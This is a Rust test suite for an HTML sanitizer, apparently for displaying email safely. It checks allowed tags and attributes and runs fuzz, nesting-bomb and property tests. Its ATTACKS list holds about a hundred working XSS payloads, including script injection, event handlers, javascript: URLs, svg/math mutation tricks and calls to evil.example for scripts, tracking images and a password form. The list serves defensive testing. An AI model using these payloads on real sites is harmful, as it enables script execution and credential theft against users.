//! Nothing that runs, is fetched, or reaches out of its place is left of a stranger's HTML.

use html5gum::{Token, Tokenizer};

use super::*;

/// All that may ever be in the output.
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "big",
    "blockquote",
    "br",
    "cite",
    "code",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "href", "rel", "target", "title", "src", "alt", "width", "height", "colspan", "rowspan",
    "start", "value", "dir",
];

/// What a page is made of, whatever the order of attributes.
fn tokens(html: &str) -> Vec<Token> {
    Tokenizer::new(html).map(Result::unwrap).collect()
}

/// Parses the output and looks at everything in it.
fn assert_safe(html: &str, source: &str) {
    for token in tokens(html) {
        let tag = match token {
            Token::StartTag(tag) => tag,
            Token::EndTag(tag) => {
                let name = String::from_utf8_lossy(&tag.name).into_owned();
                assert!(
                    TAGS.contains(&name.as_str()),
                    "</{name}> of {source}\n{html}"
                );
                continue;
            }
            Token::String(_) => continue,
            other => panic!("{other:?} of {source}\n{html}"),
        };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        assert!(
            TAGS.contains(&name.as_str()),
            "<{name}> of {source}\n{html}"
        );
        for (key, value) in &tag.attributes {
            let key = String::from_utf8_lossy(key).into_owned();
            let value = String::from_utf8_lossy(value).into_owned();
            assert!(
                ATTRIBUTES.contains(&key.as_str()),
                "{key} of {source}\n{html}"
            );
            let schemes: &[&str] = match key.as_str() {
                "href" => &["http://", "https://", "mailto:", "tel:"],
                "src" => &["cid:"],
                "rel" => &["noopener noreferrer nofollow"],
                "target" => &["_blank"],
                _ => continue,
            };
            let lower = value.to_ascii_lowercase();
            let is_allowed = schemes.iter().any(|scheme| lower.starts_with(scheme));
            assert!(is_allowed, "{key}={value} of {source}\n{html}");
        }
        if name == "a" {
            assert!(tag.attributes.contains_key(&b"rel"[..]), "{source}\n{html}");
        }
    }
    // what a browser makes of it is what it already is
    let again = CLEANER.clean(html).to_string();
    assert_eq!(tokens(&again), tokens(html), "{source}");
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"http://evil.example/1.gif\">",
    "<img src=\"//evil.example/1.gif\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img srcset=\"http://evil.example/1.gif 2x\" alt=x>",
    "<img src=cid:a srcset=http://evil.example/2.gif onload=alert(1)>",
    "<img src=\"cid:a\nb\">",
    "<img lowsrc=http://evil.example/ dynsrc=http://evil.example/>",
    "<picture><source srcset=http://evil.example/3.gif><img src=cid:x></picture>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" \u{1} javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"cid:a\">x</a>",
    "<a href=\"/tickets/1/close\">x</a>",
    "<a href=\"#top\" name=top id=top>x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"https://ok.example\" target=_top rel=opener ping=http://evil.example>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=http://evil.example/x.swf>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"http://evil.example/\"><a href=x>x</a>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/)}</style>",
    "<div style=\"background:url(http://evil.example/1.gif)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<table background=\"http://evil.example/1.gif\"><tr><td background=\"http://evil.example/2.gif\">x</table>",
    "<body background=\"http://evil.example/1.gif\" onload=alert(1)>x",
    "<form action=\"http://evil.example/\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=http://evil.example/1.gif onfocus=alert(1) autofocus>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video src=http://evil.example/1.mp4 poster=http://evil.example/1.png onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=location class=\"button danger\" name=cookie>x</div>",
    "<div onclick=alert(1) onmouseover='alert(1)' data-x=1 contenteditable>x</div>",
    "<p title=\"x onclick=alert(1)>x",
    "<p <script>alert(1)</script>>x</p>",
    "<<script>alert(1)//<</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?import namespace=x implementation=http://evil.example/?>x",
    "<scr\0ipt>alert(1)</scr\0ipt><img src=x o\0nerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=https://ok.example title='\"><script>alert(1)</script>'>x</a>",
    "<td colspan=100000 rowspan=99999999>x</td><table><td colspan=100000 rowspan=65000>x</table>",
    "<img src=cid:x width=99999999 height=-1 style=position:fixed>",
    "<select><option><script>alert(1)</script></select><keygen autofocus onfocus=alert(1)>",
    "<table><script>alert(1)</script><tr><img src=x onerror=alert(1)><td>x</table>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<custom-tag onclick=alert(1) is=x>x</custom-tag><slot name=x>y</slot>",
    "<b a=1><b a=2><p><i></b>x</p></b></i><a href=https://a.example><a href=https://b.example>y",
];

#[test]
fn no_attack_is_left() {
    let wraps = [
        "",
        "<div>",
        "<table>",
        "<table><tr><td>",
        "<p><b>",
        "<ul><li>",
        "<blockquote>",
        "<pre>",
        "<svg>",
        "<a href=x>",
    ];
    for attack in ATTACKS {
        for wrap in wraps {
            let source = format!("{wrap}{attack}");
            assert_safe(&sanitize(&source).html, &source);
        }
        // cut anywhere
        for (at, _) in attack.char_indices() {
            let source = format!("{}<i>", &attack[..at]);
            assert_safe(&sanitize(&source).html, &source);
        }
    }
    let all = ATTACKS.concat();
    assert_safe(&sanitize(&all).html, &all);
    let backwards: String = ATTACKS.iter().rev().copied().collect();
    assert_safe(&sanitize(&backwards).html, &backwards);
}

#[test]
fn what_a_mail_needs_stays() {
    for (html, expected) in [
        (
            "<P CLASS=MsoNormal>Hi <b>you</b><br>there<o:p></o:p></P>",
            "<p>Hi <b>you</b><br>there</p>",
        ),
        (
            "<a href=\"https://example.com/?a=1&b=2\" class=x>page</a>",
            "<a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">page</a>",
        ),
        (
            "<img src=\"cid:image001.png@01D\" width=\"10\" alt=\"Logo\">",
            "<img src=\"cid:image001.png@01D\" alt=\"Logo\" width=\"10\">",
        ),
        ("<img src=https://x.example/1.png alt=Logo>", "[Logo]"),
        (
            "<img src=https://x.example/1.png alt=\u{1f600}>",
            "\u{1f600}",
        ),
        (
            "<table><tr><td colspan=2>a<td>b</table>",
            "<table><tbody><tr><td colspan=\"2\">a</td><td>b</td></tr></tbody></table>",
        ),
        (
            "<ol start=3><li>a<li>b</ol>",
            "<ol start=\"3\"><li>a</li><li>b</li></ol>",
        ),
        (
            "<center>x</center><font color=red>y</font>",
            "<div>x</div>y",
        ),
        ("<div style='display:none'>pre</div>new", "new"),
        ("<div style='display:none'>pre</div>", "<div>pre</div>"),
        ("5 < 6 & 7", "5 &lt; 6 &amp; 7"),
        ("<p>one<p>two</b></i></div>", "<p>one</p><p>two</p>"),
        ("", ""),
    ] {
        assert_eq!(sanitize(html).html, expected, "{html}");
    }
}

#[test]
fn what_is_too_much_is_shown_as_text() {
    for (html, defect) in [
        (
            format!("{}<b>x</b>&amp;", "<div>".repeat(300)),
            "deeper than 200",
        ),
        (
            format!("<b>x</b>&amp;{}", " ".repeat(1 << 20)),
            "longer than 1 MiB",
        ),
    ] {
        let found = sanitize(&html);
        assert_eq!(found.html, "<pre>x&amp;</pre>");
        assert!(found.defects[0].contains(defect), "{:?}", found.defects);
    }
    let links = "<a href=https://example.com/>x</a> ".repeat(1_001);
    let found = sanitize(&links);
    assert_eq!(found.html.matches("https://example.com/").count(), 1_000);
    assert!(found.defects[0].contains("1000 links"));
    let found = sanitize(&format!(
        "<a href=\"https://example.com/{}\">x</a>",
        "y".repeat(9_000)
    ));
    assert!(found.html.len() < 200);
    assert!(found.defects[0].contains("8 KiB"));
}

#[test]
fn bombs_end() {
    let fill = |piece: &str| piece.repeat(200_000 / piece.len());
    let fonts: String = (0..150).map(|at| format!("<b title={at}>")).collect();
    for html in [
        fill("<div>"),
        fill("<b>"),
        fill("<a href=https://x.example>"),
        fill("<table>"),
        fill("<table><tr><td>"),
        fill("<td>x"),
        fill("<li>x"),
        format!("<table>{}", fill("<b>x</b>")),
        format!("<table>{}", fill("x<tr>")),
        format!("<p>{fonts}</p>{}", fill("<p>x</p>")),
        format!("<li>{fonts}<li>{}", fill("<li>x</li>")),
        format!("<dt>{fonts}<dt>{}", fill("<dt>x</dt>")),
        format!("<h3>{fonts}<h1><h2></h2></h1>{}", fill("<p>x</p>")),
        format!("{fonts}{}", fill("</b><p>")),
    ] {
        let found = sanitize(&html).html;
        assert!(found.len() < 10 * html.len(), "{}", &html[..40]);
        assert_safe(&found, &html[..40]);
    }
}

/// Pieces that pages are made of, in any order.
const PIECES: &[&str] = &[
    "<table>",
    "</table>",
    "<tr>",
    "</tr>",
    "<td>",
    "</td>",
    "<th>",
    "<tbody>",
    "<caption>",
    "<p>",
    "</p>",
    "<div>",
    "</div>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<a href=https://x.example>",
    "</a>",
    "<ul>",
    "</ul>",
    "<ol start=9>",
    "<li>",
    "</li>",
    "<dl>",
    "<dt>",
    "<dd>",
    "<blockquote>",
    "</blockquote>",
    "<pre>",
    "</pre>",
    "<h1>",
    "</h1>",
    "<h2>",
    "<br>",
    "<hr>",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<textarea>",
    "</textarea>",
    "<!--",
    "-->",
    "<title>",
    "</title>",
    "<select>",
    "<option>",
    "<form>",
    "<span style='display:none'>",
    "</span>",
    "<div style='font-size:0'>",
    "<font size=1>",
    "<img src=cid:x>",
    "<img alt=x>",
    "<div class=gmail_quote>",
    "<div class=gmail_signature>",
    "<div id=divRplyFwdMsg>",
    "---------- Forwarded",
    "-- ",
    "x",
    " ",
    "\n",
    "&nbsp;",
    "&",
    "\"",
    "<",
    "\0",
    "\u{416}",
    "<noscript>",
    "<template>",
    "</template>",
    "<object>",
    "<plaintext>",
    "<div style='border:none;border-top:solid #E1E1E1'>",
    "<a name=_MailAutoSig>",
    "<wbr>",
];

#[test]
fn lines_before_a_text_in_pre_are_not_lost_one_by_one() {
    for html in [
        "<caption><plaintext>\n</b><table><title>x",
        "<pre>\n\n\n a</pre>",
        "<pre dir=rtl>\n\n a</pre>",
    ] {
        assert_safe(&sanitize(html).html, html);
    }
}

proptest::proptest! {
    #[test]
    fn any_page_ends_safe(picks in proptest::collection::vec(0..PIECES.len(), 0..60)) {
        let html: String = picks.iter().filter_map(|at| PIECES.get(*at).copied()).collect();
        assert_safe(&sanitize(&html).html, &html);
        let text = to_text(&html).text;
        proptest::prop_assert!(text.len() < 100 * (html.len() + 10), "{text}");
    }
}
